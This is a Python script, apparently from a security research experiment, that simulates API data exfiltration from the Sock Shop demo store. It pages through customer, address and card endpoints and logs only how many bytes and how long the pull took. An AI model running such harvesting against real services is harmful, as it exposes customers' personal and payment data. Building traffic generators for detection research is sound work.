#!/usr/bin/env python3
"""Munnin's `api` exfiltration as a stand-alone client (Python 3 standard library only).

An outside client pulls customers, addresses and cards through the Sock Shop front-end,
page by page (page=1, 2, ... until a page has no records), round the three collections again
if need be, until it has received --bytes bytes of response bodies. It prints one JSON line,
{"bytes": ..., "start": ..., "end": ...} (Unix seconds), ready for events.ndjson with
"kind": "exfiltration", "method": "api", "path": ["user-db", "user", "front-end", "external"].

    python3 locust/exfiltrate.py --host http://FRONT-END --bytes 400000

The experiment itself uses src/exfiltration/exfiltrateViaApi.ts (same algorithm); this is for
attacking a cluster from another machine. Exit status 1 on failure (what moved is still printed).
"""
import argparse
import json
import sys
import time
import urllib.error
import urllib.request

COLLECTIONS = ("customers", "addresses", "cards")


def count_records(body):
    """Records in a page: a JSON array's length, or the arrays inside an object (HAL _embedded)."""
    try:
        value = json.loads(body)
    except ValueError:
        return 0

    def count(v, depth):
        if isinstance(v, list):
            return len(v)
        if depth == 0 or not isinstance(v, dict):
            return 0
        return sum(count(inner, depth - 1) for inner in v.values())

    return count(value, 2)


def exfiltrate(host, target_bytes, page_size=20, timeout=10.0, max_failures=3):
    start = time.time()
    received = failures = empty_in_a_row = collection = 0
    page = 1
    while received < target_bytes:
        name = COLLECTIONS[collection % len(COLLECTIONS)]
        url = f"{host.rstrip('/')}/{name}?page={page}&size={page_size}"
        try:
            with urllib.request.urlopen(urllib.request.Request(url, headers={"Accept": "application/json"}), timeout=timeout) as r:
                status, body = r.status, r.read()
        except urllib.error.HTTPError as e:
            status, body = e.code, e.read()
        except (urllib.error.URLError, OSError) as e:
            failures += 1
            if failures >= max_failures:
                raise ExfiltrationFailed(f"GET /{name}: {e}", received, start)
            continue
        if status >= 500 or status == 429:
            failures += 1
            if failures >= max_failures:
                raise ExfiltrationFailed(f"GET /{name}: HTTP {status}", received, start)
            continue
        failures = 0
        if status < 400 and count_records(body) > 0:
            received += len(body)
            empty_in_a_row = 0
            page += 1
            continue
        empty_in_a_row += 1
        if empty_in_a_row >= len(COLLECTIONS):
            raise ExfiltrationFailed(f"the front-end returned no {', '.join(COLLECTIONS)} records at {host}", received, start)
        collection += 1
        page = 1
    return {"bytes": received, "start": start, "end": max(time.time(), start + 0.001)}


class ExfiltrationFailed(Exception):
    def __init__(self, message, received, start):
        super().__init__(message)
        self.partial = {"bytes": received, "start": start, "end": max(time.time(), start + 0.001)}


def main():
    parser = argparse.ArgumentParser(description="Munnin's api exfiltration through the Sock Shop front-end.")
    parser.add_argument("--host", required=True, help="front-end base URL, e.g. http://127.0.0.1:8079")
    parser.add_argument("--bytes", required=True, type=int, help="bytes of response bodies to pull")
    parser.add_argument("--page-size", type=int, default=20, help="records per page (default 20)")
    args = parser.parse_args()
    if args.bytes <= 0 or args.page_size <= 0:
        parser.error(f"--bytes and --page-size must be positive (got {args.bytes} and {args.page_size})")
    try:
        print(json.dumps(exfiltrate(args.host, args.bytes, args.page_size)))
    except ExfiltrationFailed as e:
        print(json.dumps({**e.partial, "error": str(e)}))
        sys.stderr.write(f"exfiltration failed: {e}\n")
        sys.exit(1)


if __name__ == "__main__":
    main()
